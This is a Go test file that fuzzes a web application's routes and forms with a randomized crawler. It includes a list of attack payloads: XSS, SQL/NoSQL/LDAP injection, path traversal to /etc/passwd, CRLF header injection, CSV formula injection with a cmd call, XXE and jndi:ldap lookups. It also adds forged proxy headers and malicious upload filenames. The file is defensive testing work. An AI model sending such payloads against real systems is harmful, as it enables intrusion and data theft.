package web_test

import (
	"bytes"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"

	"tulos/internal/web"
)

// What is in hostile values: a mark that must never become more than text, a host that
// nothing may lead to or speak of, and a header that nothing may set.
const (
	mark         = "mk7zq"
	elsewhere    = "elsewhere.example"
	forged       = "forged.example"
	forgedHeader = "X-Forged"
)

// hostileValues are what attackers send.
func hostileValues() []string {
	return []string{
		`<` + mark + ` on` + mark + `=1>`, `"><svg/onload=` + mark + `>`, `' on` + mark + `=' x="` + mark, `javascript:` + mark + `()`,
		`</script><` + mark + `>`, `</textarea></title><` + mark + `>`, `{{.` + mark + `}}${` + mark + `}<%=` + mark + `%>`, `<!--` + mark, `]]><` + mark + `/>`,
		`data:text/html,<` + mark + `>`, `&lt;` + mark + `&gt;`, `\u003c` + mark + `\u003e`, "+ADw-" + mark + "+AD4-",
		`' OR '1'='1`, `'; DROP TABLE entries;--`, `") UNION SELECT 1,2--`, `{"$ne":null}`, `{"$where":"sleep(9)"}`, `$gt`, `project.$ref`, `%' OR 1=1--`, `*)(uid=*`,
		`../../../../etc/passwd`, `..%2f..%2fetc%2fpasswd`, `....//....//etc/passwd`, `C:\windows\win.ini`, `/etc/passwd`, `file:///etc/passwd`, `evidence/../../store.db`, `.`, `..`,
		"a\r\n" + forgedHeader + ": " + mark, "a\n" + forgedHeader + ": " + mark, "%0d%0a" + forgedHeader + ": " + mark, "a\r\n\r\n<" + mark + ">", "\u2028" + forgedHeader, "\r",
		"a\x00b", "\x00", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\ufeff", "\u202e" + mark, "\u0000", "e\u0301\u0301\u0301", "🏳️‍🌈", "İı\u212a",
		"%s%n%x%!d(MISSING)", "%", "%zz", "%%%", "{0}", "{Count, plural, other {x}}",
		"99999999999999999999999999", "-1", "0", "-0", "1e309", "NaN", "Infinity", "0x1F", "٣", "1,2,3", "1.000.000,00", "2147483648", "9223372036854775808", "-9223372036854775809", "0." + strings.Repeat("3", 60), "1e-400",
		"2026-02-30", "0000-00-00", "99999-12-31", "-0001-01-01", "2026-13-01", "9999-12-31", "0001-01-01", "31.2.2026", "2026-10-01T00:00:00Z",
		`=cmd|' /C ` + mark + `'!A0`, `@SUM(` + mark + `)`, `+` + mark, `-` + mark + "+1", "\t=" + mark,
		`https://` + elsewhere, `//` + elsewhere, `/\` + elsewhere, `\\` + elsewhere, `/%09/` + elsewhere, "/\t/" + elsewhere, `https:` + elsewhere, `/../..//` + elsewhere, `//` + elsewhere + `@localhost`, `/;@` + elsewhere, `.` + elsewhere, `?//` + elsewhere,
		strings.Repeat(mark+"ä ", 3000), strings.Repeat("a", 70_000), strings.Repeat("<b>", 2000), strings.Repeat("(", 5000), strings.Repeat("\n", 5000), "",
		`{"a":` + strings.Repeat("[", 2000), `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `${jndi:ldap://` + elsewhere + `}`,
	}
}

// foreignValues are names of what belongs to others, or is not there.
func foreignValues() []string {
	return []string{
		accepted, submitted, drafted, quoted, "FI-2026-101", "FI-2026-009", "M-001", "E-0051", "D-1", "1", "2", "3", "99", "OP1", "OP1.1", "A1.1", "sex", "B1",
		string(drosa), "suojellaan-lapsia", "stellit", "cbss", string(baltic), string(another), "new", "first", "second", "quote-0", "publication-0",
		"figures.json", "report.en.pdf", "activities.csv", "audit.csv", "xlsx", "expenses.csv", "evidence/webinar-speakers.jpg", "staff", "lead", "funder", "administrator",
	}
}

// A crawled request.
type crawled struct {
	method, path string
	header       map[string]string
	host         string
	body         string
	isHonest     bool
}

func (r crawled) String() string {
	body := r.body
	if len(body) > 600 {
		body = body[:600] + "…"
	}
	return fmt.Sprintf("%s %q host %q %q body %q", r.method, r.path, r.host, r.header, body)
}

// request chooses what to send next.
func (c *crawler) request(v *crawling) crawled {
	var r crawled
	switch n := c.IntN(100); {
	case n < 30 && len(v.waiting) > 0:
		at := c.IntN(len(v.waiting))
		r = crawled{method: http.MethodGet, path: v.waiting[at], isHonest: true}
		v.known = append(v.known, v.waiting[at])
		v.waiting = append(v.waiting[:at], v.waiting[at+1:]...)
	case n < 50:
		r = crawled{method: http.MethodGet, path: c.asked(v.known[c.IntN(len(v.known))])}
	case n < 65:
		r = c.routed()
	case len(v.sorts) > 0:
		r = c.filled(v)
	default:
		r = crawled{method: http.MethodGet, path: v.known[c.IntN(len(v.known))], isHonest: true}
	}
	if r.header == nil {
		r.header = map[string]string{}
	}
	if c.IntN(6) == 0 {
		c.headers(&r)
	}
	return r
}

func (c *crawler) value() string {
	if c.IntN(4) == 0 {
		all := foreignValues()
		return all[c.IntN(len(all))]
	}
	all := hostileValues()
	return all[c.IntN(len(all))]
}

// askable are names of parameters that pages take.
var askable = []string{ //nolint:gochecknoglobals // a table that is only read
	"then", "back", "next", "q", "partner", "status", "after", "before", "period", "from", "to", "type", "country", "indicator", "sort", "order", "language",
	"scope", "version", "a", "b", "in", "add", "page", "limit", "cursor", "by", "entry", "kind", "form", "span", "code", "state", "role", "organisation", "error", "month", "group", "of",
}

// asked is an address with hostile parameters: those that it has, and others.
func (c *crawler) asked(address string) string {
	path, query, _ := strings.Cut(address, "?")
	values, err := url.ParseQuery(query)
	if err != nil {
		values = url.Values{}
	}
	for name := range values {
		if c.IntN(2) == 0 {
			values.Set(name, c.value())
		}
	}
	for range 1 + c.IntN(3) {
		values.Add(askable[c.IntN(len(askable))], c.value())
	}
	if len(values) > 8 || len(values.Encode()) > 40_000 {
		return path + "?q=" + mark
	}
	return path + "?" + values.Encode()
}

// routed is a route of the table with hostile names in its path.
func (c *crawler) routed() crawled {
	all := web.TestedRoutes()
	route := all[c.IntN(len(all))]
	var parts []string
	for part := range strings.SplitSeq(route.Path, "/") {
		switch {
		case part == ":project" && c.IntN(4) > 0:
			part = string(baltic)
		case strings.HasPrefix(part, ":") || strings.HasPrefix(part, "*"):
			value := c.value()
			if len(value) > 2000 {
				value = value[:2000]
			}
			part = url.PathEscape(value)
		}
		parts = append(parts, part)
	}
	r := crawled{method: route.Method, path: strings.Join(parts, "/")}
	switch route.Method {
	case http.MethodGet, http.MethodHead:
		if c.IntN(2) == 0 {
			r.path = c.asked(r.path)
		}
	default:
		types := []string{"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "multipart/form-data", "application/json", "text/plain", "application/xml", "", "application/offset+octet-stream", "multipart/form-data; boundary=" + strings.Repeat("b", 90)}
		bodies := []string{"", "rev=-1&step=accept&comment=" + mark, "{}", "[[[[", "null", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + mark + "\r\n--x--\r\n", "--x\r\n", "\x00\xff", c.value(), "a=%zz&b=%"}
		r.header = map[string]string{"Content-Type": types[c.IntN(len(types))]}
		r.body = bodies[c.IntN(len(bodies))]
	}
	return r
}

// headers adds headers that lie.
func (c *crawler) headers(r *crawled) {
	lies := map[string][]string{
		"X-Forwarded-Host": {forged}, "X-Forwarded-For": {"::1", mark, "1.2.3.4, 5.6.7.8"}, "X-Forwarded-Proto": {"https", "javascript"}, "Forwarded": {"host=" + forged},
		"X-Original-URL": {"/people"}, "X-Rewrite-URL": {"/people"}, "X-HTTP-Method-Override": {"DELETE"}, "Referer": {"https://" + forged + "/"}, "User-Agent": {`"><` + mark + `>`, strings.Repeat("u", 5000)},
		"Accept-Language": {`"><` + mark + `>`, strings.Repeat("en,", 500), "../../etc", "*"}, "Accept": {"application/json", "*/*;q=" + mark}, "If-None-Match": {"*", mark}, "Range": {"bytes=0-0,-1", "bytes=9-1"},
		"If-Modified-Since": {mark}, "Accept-Encoding": {"gzip;q=0", mark}, "Upload-Offset": {"-1", "9223372036854775807", mark},
		"Cookie": {"tulos-language=../x; tulos-theme=" + mark, "tulos-session=" + mark, "tulos-session=" + strings.Repeat("A", 3000)},
	}
	names := []string{"X-Forwarded-Host", "X-Forwarded-For", "X-Forwarded-Proto", "Forwarded", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override", "Referer", "User-Agent", "Accept-Language", "Accept", "If-None-Match", "Range", "If-Modified-Since", "Accept-Encoding", "Upload-Offset", "Cookie"}
	for range 1 + c.IntN(3) {
		name := names[c.IntN(len(names))]
		r.header[name] = lies[name][c.IntN(len(lies[name]))]
	}
	if c.IntN(3) == 0 {
		r.host = forged
	}
}

// filled is a form that was found, filled in more or less hostilely.
func (c *crawler) filled(v *crawling) crawled {
	same := v.forms[v.sorts[c.IntN(len(v.sorts))]]
	f := same[c.IntN(len(same))]
	hostility := []float64{0, 0.08, 0.3, 0.9}[c.IntN(4)]
	values := url.Values{}
	buttons := map[int]bool{}
	for n, field := range f.fields {
		if field.kind == "button" {
			buttons[n] = true
		}
	}
	pressed := c.IntN(len(buttons) + 1)
	for n, field := range f.fields {
		switch {
		case field.kind == "file":
			continue
		case buttons[n]:
			if pressed--; pressed != 0 && c.IntN(8) > 0 {
				continue
			}
			values.Add(field.name, field.value)
		case c.Float64() < hostility/6: // missing
			continue
		case c.Float64() < hostility:
			values.Add(field.name, c.value())
		default:
			if value, isSent := c.honest(field); isSent {
				values.Add(field.name, value)
			}
		}
		if c.Float64() < hostility/6 { // twice
			values.Add(field.name, c.value())
		}
	}
	if f.method != http.MethodPost {
		path, _, _ := strings.Cut(f.action, "?")
		if text := values.Encode(); len(text) < 40_000 {
			return crawled{method: http.MethodGet, path: path + "?" + text}
		}
		return crawled{method: http.MethodGet, path: path}
	}
	if !f.isMultipart {
		return crawled{
			method: http.MethodPost, path: f.action, body: values.Encode(),
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
		}
	}
	return c.multipart(f, values)
}

// honest is what somebody may type who means well.
func (c *crawler) honest(f crawledField) (value string, isSent bool) {
	switch f.kind {
	case "password":
		return password, true
	case "checkbox", "radio":
		return f.value, f.isOff == (c.IntN(4) == 0)
	case "select":
		if len(f.choices) > 0 && c.IntN(2) == 0 {
			return f.choices[c.IntN(len(f.choices))], true
		}
	case "hidden":
		return f.value, true
	}
	if f.value == "" || c.IntN(5) == 0 {
		plausible := []string{"2026-10-01", "2026-11-20", "3", "12", "12.50", "A day in Ogre", "someone@example.org", "EUR", "https://example.org/a", mark}
		return plausible[c.IntN(len(plausible))], true
	}
	return f.value, true
}

// multipart is a form with files.
func (c *crawler) multipart(f crawledForm, values url.Values) crawled {
	c.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	for name, all := range values {
		for _, value := range all {
			if err := w.WriteField(name, value); err != nil {
				c.Fatal(err)
			}
		}
	}
	names := []string{"a.png", "../../a.png", "a.svg", "a.html", `a"` + mark + `.csv`, "a.xlsx", "a.json", "<" + mark + ">.pdf", strings.Repeat("n", 300) + ".png", ".htaccess", "a.png\x00.html"}
	files := []string{"", "\x89PNG\r\n\x1a\n" + mark, `<svg xmlns="http://www.w3.org/2000/svg" onload="` + mark + `"/>`, "<html><" + mark + ">", "PK\x03\x04" + mark, "%PDF-1.7\n" + mark, filledLog, "a;b\n" + mark + ";=1+1\n", `{"$schema":"x"}`, "\xff\xd8\xff\xe0" + mark, "GIF89a" + mark, c.value()}
	for _, field := range f.fields {
		if field.kind != "file" || c.IntN(3) == 0 {
			continue
		}
		part, err := w.CreateFormFile(field.name, names[c.IntN(len(names))])
		if err == nil {
			_, err = part.Write([]byte(files[c.IntN(len(files))]))
		}
		if err != nil {
			c.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		c.Fatal(err)
	}
	return crawled{method: http.MethodPost, path: f.action, body: body.String(), header: map[string]string{"Content-Type": w.FormDataContentType()}}
}
